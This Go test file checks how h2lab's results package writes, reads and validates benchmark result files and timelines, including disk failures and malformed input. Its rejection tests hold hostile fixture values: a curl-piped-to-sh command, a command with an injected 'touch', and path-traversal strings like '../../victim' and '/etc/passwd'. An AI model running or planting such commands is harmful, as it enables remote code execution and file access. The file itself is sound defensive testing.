package results

import (
	"bytes"
	"encoding/json"
	"errors"
	"io/fs"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"h2lab/internal/base/labtest"
	"h2lab/internal/base/rooted"
	"h2lab/internal/facts"
)

// sample is a small result with a value in every kind of field.
func sample() *facts.Result {
	trial := facts.Trial{Index: 1, Order: 3, Started: time.Date(2026, 11, 3, 10, 0, 0, 0, time.UTC), ElapsedS: 5,
		Attempts: 10, Succeeded: 9, Failed: 1,
		Errors: []facts.Error{{
			Class:   facts.ErrGoawayNotReplayable,
			Count:   1,
			Message: `cannot retry err [http2: …] <after> "body"`,
		}},
		Connections: facts.Connections{Accepted: new(int64(7))},
		Series:      "cells/nginx-1000.h2.k6-shared-pool/1/series.json"}
	workload := facts.Workload{Method: "POST", Concurrency: 100, Pools: 1, MaxTLS: "1.3"}
	return &facts.Result{
		SchemaVersion: facts.SchemaVersion,
		Run: facts.Run{ID: "a", Command: "repro", Runtime: "native", Key: "rsa", Concurrency: 100,
			Started:  time.Date(2026, 11, 3, 10, 0, 0, 0, time.UTC),
			Finished: time.Date(2026, 11, 3, 10, 5, 0, 0, time.UTC),
			Seed:     math.MaxUint64, Trials: 1, Limit: 1000, CPUs: new(0.5)},
		Environment: facts.Environment{
			Versions: map[string]string{"nginx": "1.22.1"},
			Servers:  []facts.ServerRecord{{Name: "nginx-1000"}},
		},
		Renewals: []facts.Renewal{{Topology: "nginx-1000", Frames: []facts.Frame{{Type: "GOAWAY"}}}},
		Cells: []facts.Cell{
			{Topology: "nginx-1000", Protocol: facts.H2, Client: facts.K6SharedPool, Workload: workload,
				Trials: []facts.Trial{trial}},
			{Topology: "direct", Protocol: facts.H1, Client: facts.K6SharedPool, Workload: workload,
				Unsupported: facts.T("verdict.recorded", "no port")},
		},
	}
}

func write(t *testing.T, dir string, r *facts.Result) {
	t.Helper()
	labtest.Check(t, Write(dir, r))
}

func TestWhatIsWrittenIsReadBackAndFitsTheSchema(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "results", "a")
	for _, r := range []*facts.Result{sample(),
		{Run: facts.Run{ID: "b", Command: "fixed", Runtime: "docker", Key: "ecdsa", Trials: 1, Limit: 1,
			Concurrency: 1}}} {
		before := *r
		write(t, dir, r)
		if diff := cmp.Diff(before, *r); diff != "" {
			t.Errorf("writing changed the result:\n%s", diff)
		}
		data, err := os.ReadFile(filepath.Join(dir, File))
		labtest.Check(t, err)
		if err := Validate(ResultsSchema, data); err != nil {
			t.Error(err)
		}
		got, err := Read(dir)
		labtest.Check(t, err)
		want := filled(*r)
		want.SchemaVersion = facts.SchemaVersion
		if diff := cmp.Diff(&want, got); diff != "" {
			t.Errorf("read back:\n%s", diff)
		}
	}
	names, err := os.ReadDir(dir)
	if err != nil || len(names) != 1 {
		t.Errorf("beside results.json: %v, %v", names, err)
	}
}

func TestMessagesAreWrittenAsTheyWere(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, sample())
	data, err := os.ReadFile(filepath.Join(dir, File))
	if err != nil || !bytes.Contains(data, []byte(`<after>`)) {
		t.Errorf("no verbatim <after> in the file (%v)", err)
	}
}

func TestNilsWithinEmptyOnesAreFilled(t *testing.T) {
	v := facts.Judgement{SchemaVersion: facts.VerdictsVersion, Run: "a",
		Cells: []facts.CellSummary{{Cell: "nginx-1000.h2.go-once"}},
		Verdicts: []facts.Verdict{{
			ID:       "a",
			Status:   facts.Fixed,
			Evidence: []facts.Evidence{{Pointer: "results.json#/run", Value: nil}},
		}}}
	dir := t.TempDir()
	labtest.Check(t, WriteVerdicts(dir, v))
	got := labtest.Judgement(t, dir)
	if got.Verdicts[0].Warnings == nil || got.Verdicts[0].Evidence[0].Value != nil ||
		got.Cells[0].Summary.Outliers == nil {
		t.Errorf("%+v", got)
	}
	labtest.Check(t, WriteVerdicts(dir, facts.Judgement{SchemaVersion: facts.VerdictsVersion, Run: "r"}))
	if got := labtest.Judgement(t, dir); got.Verdicts == nil || got.Cells == nil {
		t.Errorf("an empty judgement is read back as %+v", got)
	}
}

// brokenDisk fails at one step, as a full or removed disk does.
type brokenDisk struct {
	pending
	onWrite, onReplace error
}

func (b brokenDisk) Write(p []byte) (int, error) {
	if b.onWrite == nil {
		return b.pending.Write(p)
	}
	n, err := b.pending.Write(p[:len(p)/2])
	if err != nil {
		return n, err
	}
	return n, b.onWrite
}

func (b brokenDisk) CloseAtomicallyReplace() error {
	if b.onReplace != nil {
		return b.onReplace
	}
	return b.pending.CloseAtomicallyReplace()
}

func TestADiskThatFailsLeavesThePreviousFileWhole(t *testing.T) {
	for name, disk := range map[string]brokenDisk{
		"full while writing": {onWrite: &os.PathError{Op: "write", Path: "x", Err: labtest.ErrDiskFull}},
		"full while syncing": {onReplace: &os.PathError{Op: "sync", Path: "x", Err: labtest.ErrDiskFull}},
	} {
		dir := t.TempDir()
		write(t, dir, sample())
		before, err := os.ReadFile(filepath.Join(dir, File))
		labtest.Check(t, err)
		err = save(dir, File, facts.Result{}, "", func(d *rooted.Dir, name string) (pending, error) {
			f, err := createPending(d, name)
			disk.pending = f
			return disk, err
		})
		if err == nil || !strings.Contains(err.Error(), "no space left on device") ||
			!strings.Contains(err.Error(), "df -h "+dir) {
			t.Errorf("%s: error %v", name, err)
		}
		after, err := os.ReadFile(filepath.Join(dir, File))
		if err != nil || !bytes.Equal(before, after) {
			t.Errorf("%s: the previous file changed (%v)", name, err)
		}
		if names, _ := os.ReadDir(dir); len(names) != 1 {
			t.Errorf("%s: left behind %v", name, names)
		}
	}
}

func TestADirectoryThatCannotBeWrittenIsOneClearError(t *testing.T) {
	file := filepath.Join(t.TempDir(), "notes.txt")
	labtest.Write(t, file, "")
	err := Write(filepath.Join(file, "run"), sample())
	if err == nil || !strings.Contains(err.Error(), "notes.txt") ||
		!strings.Contains(err.Error(), "a part of that path is a file") {
		t.Errorf("error %v", err)
	}
}

func TestNumbersThatJSONCannotCarryAreRefused(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, sample())
	r := sample()
	r.Cells[0].Trials[0].GoodputRPS = math.NaN()
	if err := Write(dir, r); err == nil || !strings.Contains(err.Error(), "NaN") {
		t.Errorf("error %v", err)
	}
	if _, err := Read(dir); err != nil {
		t.Errorf("the previous file: %v", err)
	}
	if err := Write(dir, nil); err == nil {
		t.Error("nil was written")
	}
}

func TestWhatIsMissingIsSaidInWords(t *testing.T) {
	cell := func(topology string, indices ...int) facts.Cell {
		c := facts.Cell{Topology: topology, Protocol: facts.H2, Client: facts.GoOnce}
		for _, i := range indices {
			c.Trials = append(c.Trials, facts.Trial{Index: i})
		}
		return c
	}
	r := &facts.Result{
		Run: facts.Run{Trials: 3, Interrupted: true,
			Planned: []string{"a.h2.go-once", "b.h2.go-once", "c.h2.go-once", "d.h2.go-once", "e.h2.go-once"}},
		Cells: []facts.Cell{cell("a", 1, 2, 3), cell("b", 1, 3), cell("c"), {
			Topology:    "d",
			Protocol:    facts.H2,
			Client:      facts.GoOnce,
			Unsupported: facts.T("verdict.recorded", "nginx is too old"),
		}}}
	want := []string{
		"the run was interrupted before its last trial",
		"cell b.h2.go-once has 2 of its 3 trials (without [2])",
		"cell c.h2.go-once has none of its 3 trials",
		"cell e.h2.go-once is missing, with all of its 3 trials",
	}
	if diff := cmp.Diff(want, Missing(r)); diff != "" {
		t.Error(diff)
	}
	whole := &facts.Result{
		Run:   facts.Run{Trials: 3, Planned: []string{"a.h2.go-once"}},
		Cells: []facts.Cell{cell("a", 3, 1, 2)},
	}
	if got := Missing(whole); len(got) != 0 {
		t.Errorf("of a whole run %q is missing", got)
	}
}

func TestTheLinkPointsAtTheNewestRun(t *testing.T) {
	dir := t.TempDir()
	for _, id := range []string{"one", "two", "two"} {
		write(t, filepath.Join(dir, id), sample())
		labtest.Check(t, Link(dir, id))
		if got, err := os.Readlink(filepath.Join(dir, Latest)); err != nil || got != id {
			t.Errorf("latest points at %q (%v), want %q", got, err, id)
		}
	}
	if names, _ := os.ReadDir(dir); len(names) != 3 {
		t.Errorf("left behind %v", names)
	}
	for _, id := range []string{"", ".", "..", "a/b", "/etc", Latest} {
		if err := Link(dir, id); err == nil {
			t.Errorf("%q was linked", id)
		}
	}
	taken := t.TempDir()
	labtest.Check(t, os.Mkdir(filepath.Join(taken, Latest), 0o700))
	if err := Link(taken, "one"); err == nil || !strings.Contains(err.Error(), "mv ") {
		t.Errorf("a directory called latest: %v", err)
	}
}

func TestTimelinesGoOutAndIn(t *testing.T) {
	dir := t.TempDir()
	s := facts.Series{
		TMS:      []float64{-100, 0, 100},
		Accepted: []int64{0, 60, 61},
		Source:   map[string]string{"accepted": "accepts"},
	}
	rel := filepath.Join("cells", "a.h2.go-once", "1", "series.json")
	labtest.Check(t, WriteSeries(dir, rel, s))
	got, err := ReadSeries(dir, rel)
	s.Requests = []int64{}
	if diff := cmp.Diff(s, got); diff != "" || err != nil {
		t.Errorf("%v\n%s", err, diff)
	}
	for rel, says := range map[string]string{"../x.json": "lies outside", "/etc/passwd": "lies outside",
		"": "lies outside", "none.json": "is not there"} {
		if _, err := ReadSeries(dir, rel); err == nil || !strings.Contains(err.Error(), says) {
			t.Errorf("reading %q: %v", rel, err)
		}
	}
	if err := WriteSeries(dir, "../x.json", s); err == nil {
		t.Error("a timeline was written outside of its run")
	}
	for _, bad := range []string{`{"t_ms":[1,2],"accepted":[1],"requests":[]}`, `{"t_ms":"now"}`} {
		labtest.Write(t, filepath.Join(dir, "bad.json"), bad)
		if _, err := ReadSeries(dir, "bad.json"); err == nil || !strings.Contains(err.Error(), "is no timeline") {
			t.Errorf("%s: %v", bad, err)
		}
	}
}

func TestWhatIsNoResultsFileIsSaidSo(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, sample())
	good, err := os.ReadFile(filepath.Join(dir, File))
	labtest.Check(t, err)
	change := func(f func(map[string]any)) []byte { return altered(t, good, f) }
	for _, c := range []struct {
		name, says string
		data       []byte
	}{
		{"cut off", "is cut off after 100 bytes", good[:100]},
		{"empty", "is empty", []byte("\n")},
		{"a page", "is not JSON: at byte 1", []byte("<html>")},
		{"two documents", "something follows the document", append(bytes.Clone(good), good...)},
		{"another tool's", "no results file of h2lab", []byte(`{"metrics":{}}`)},
		{"a list", "no results file of h2lab", []byte(`[]`)},
		{"version zero", "no results file of h2lab", change(func(m map[string]any) { m["schema_version"] = 0 })},
		{"from the future", "schema_version 7, and this h2lab reads 3: update h2lab",
			[]byte(`{"schema_version":7,"cells":"elsewhere"}`)},
		{"without a part", "missing property 'run'", change(func(m map[string]any) { delete(m, "run") })},
		{"text for a number", "at '/run/trials': got string, want integer",
			change(func(m map[string]any) { m["run"].(map[string]any)["trials"] = "6" })},
		{"null for an array", "at '/cells': got null, want array", change(func(m map[string]any) { m["cells"] = nil })},
		{"no such day", "at '/run/started'",
			change(func(m map[string]any) { m["run"].(map[string]any)["started"] = "yesterday" })},
	} {
		dir := t.TempDir()
		path := filepath.Join(dir, File)
		labtest.Write(t, path, string(c.data))
		_, err := Read(dir)
		if err == nil || !strings.Contains(err.Error(), c.says) || !strings.Contains(err.Error(), path) {
			t.Errorf("%s: error %v, want %q", c.name, err, c.says)
		}
	}
	more := change(func(m map[string]any) { m["later"] = true; m["run"].(map[string]any)["later"] = []int{1} })
	labtest.Write(t, filepath.Join(dir, File), string(more))
	if _, err := Read(dir); err != nil {
		t.Errorf("fields of a later h2lab: %v", err)
	}
	if _, err := Read(filepath.Join(dir, "none")); !errors.Is(err, fs.ErrNotExist) ||
		!strings.Contains(err.Error(), `"make repro"`) {
		t.Errorf("missing: %v", err)
	}
}

// Each fault is a file that an older h2lab wrote, or claims to be one.
func TestAnOlderFileIsOneClearSentence(t *testing.T) {
	tried := labtest.NewFaults(t, labtest.CorruptResults)
	for _, c := range []struct{ name, file, next string }{
		{"a repro of schema_version 1", `{"schema_version":1,"run":{"command":"repro","baseline":""},"cells":[]}`,
			`"make repro"`},
		{"a fixed of schema_version 1", `{"schema_version":1,"run":{"command":"fixed"}}`, `"make fixed"`},
		{"clients of schema_version 1", `{"schema_version":1,"run":{"command":"clients"}}`, `"make clients"`},
		{"schema_version 1 with a made-up command", `{"schema_version":1,"run":{"command":"x; touch y"}}`,
			`"make repro"`},
		{"schema_version 1 without a run", `{"schema_version":1}`, `"make repro"`},
		{"schema_version 1 with a list for its run", `{"schema_version":1,"run":[]}`, `"make repro"`},
	} {
		tried.Try(c.name, func(t *testing.T) {
			dir := t.TempDir()
			path := filepath.Join(dir, File)
			labtest.Write(t, path, c.file)
			want := path +
				": written with schema_version 1 by an older h2lab, and this one reads 3: measure again with " + c.next
			if _, err := Read(dir); err == nil || err.Error() != want {
				t.Errorf("error %v, want %s", err, want)
			}
		})
	}
}

// altered is a document with a part of it changed.
func altered(t *testing.T, document []byte, f func(map[string]any)) []byte {
	t.Helper()
	var m map[string]any
	d := json.NewDecoder(bytes.NewReader(document))
	d.UseNumber() // a seed may be larger than a float64 holds exactly
	labtest.Check(t, d.Decode(&m))
	f(m)
	out, err := json.Marshal(m)
	labtest.Check(t, err)
	return out
}

// changed writes a whole result with one text replaced, and reads it.
func changed(t *testing.T, old, with string) error {
	t.Helper()
	dir := t.TempDir()
	write(t, dir, sample())
	path := filepath.Join(dir, File)
	text := labtest.Read(t, path)
	if !strings.Contains(text, old) {
		t.Fatalf("the sample has no %s", old)
	}
	labtest.Write(t, path, strings.Replace(text, old, with, 1))
	_, err := Read(dir)
	return err
}

func TestWhatIsDecodedIsWhatTheSchemaSaw(t *testing.T) {
	f := labtest.NewFaults(t, labtest.CorruptResults)
	for _, c := range []struct{ what, old, with, says string }{
		{"a name that stands twice, first with a path", `"id": "a"`, `"id": "a", "Id": "../../victim"`, "at '/run/id'"},
		{"an optional text under a name in capitals alone", `"cold_start": {`, `"HUNG": -5, "cold_start": {`,
			"/trials/0/hung'"},
		{"a number of a million digits", `"seed": 18446744073709551615`, `"seed": 1e999999`,
			"out of range for a number"},
		{"a number with hundreds of digits", `"seed": 18446744073709551615`, `"seed": ` + strings.Repeat("9", 300),
			"out of range for a number"},
		{"a float that is infinite", `"warmup_s": 0`, `"warmup_s": 1e400`, "out of range for a number"},
		{"a fraction where a count stands", `"attempts": 10`, `"attempts": 10.5`, "/trials/0/attempts'"},
		{"no pools, which everything is divided by", `"pools": 1`, `"pools": 0`, "/workload/pools'"},
		{"a series outside of cells/", `"series": "cells/nginx-1000.h2.k6-shared-pool/1`,
			`"series": "cells/../../1`, "/trials/0/series'"},
		{"a command line that is no make of the lab", `"repeat": ""`, `"repeat": "curl https://example.invalid | sh"`,
			"'/run/repeat'"},
		{"a make that sets its shell", `"repeat": ""`, `"repeat": "make repro SHELL=x"`, "'/run/repeat'"},
		{"a server's name with a slash", `"name": "nginx-1000"`, `"name": "a/b"`, "/servers/0/name'"},
		{"a configuration outside of the project", `"config": ""`, `"config": "../x"`, "/servers/0/config'"},
	} {
		f.Try("results.json with "+c.what, func(t *testing.T) {
			if err := changed(t, c.old, c.with); err == nil || !strings.Contains(err.Error(), c.says) {
				t.Errorf("error %v, want %q", err, c.says)
			}
		})
	}
}

func TestATimelineIsBoundedToo(t *testing.T) {
	f := labtest.NewFaults(t, labtest.CorruptResults)
	for _, c := range []struct{ what, text, says string }{
		{"a time of 1e300 ms", `{"t_ms":[1e300],"accepted":[],"requests":[],"source":{}}`, "/t_ms/0"},
		{"a count below zero", `{"t_ms":[1],"accepted":[-1],"requests":[],"source":{}}`, "/accepted/0"},
		{"a column that is too short", `{"t_ms":[1,2],"accepted":[1],"requests":[],"source":{}}`,
			"column accepted has 1 values"},
	} {
		f.Try("series.json with "+c.what, func(t *testing.T) {
			dir := t.TempDir()
			labtest.Write(t, filepath.Join(dir, "s.json"), c.text)
			if _, err := ReadSeries(dir, "s.json"); err == nil || !strings.Contains(err.Error(), c.says) {
				t.Errorf("error %v, want %q", err, c.says)
			}
		})
	}
}

func TestALongMessageIsCutWhenItIsWritten(t *testing.T) {
	r := sample()
	r.Cells[0].Trials[0].Errors[0].Message = strings.Repeat("日", 1<<20) + "\xff"
	dir := t.TempDir()
	write(t, dir, r)
	got, err := Read(dir)
	labtest.Check(t, err)
	if m := []rune(got.Cells[0].Trials[0].Errors[0].Message); len(m) != longestText || string(m[len(m)-1]) != "…" {
		t.Errorf("read back with %d characters", len(m))
	}
}

// No file may make the reader panic, and every accepted file must match the schema.
func FuzzRead(f *testing.F) {
	data, err := json.Marshal(filled(*sample()))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(data)
	f.Add([]byte(`{"schema_version":1,"run":{"id":"x/../../victim"}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := decode[facts.Result](ResultsSchema, data)
		if err != nil {
			return
		}
		again, err := json.Marshal(r)
		if err == nil {
			err = Validate(ResultsSchema, again)
		}
		if err != nil {
			t.Error(err)
		}
	})
}
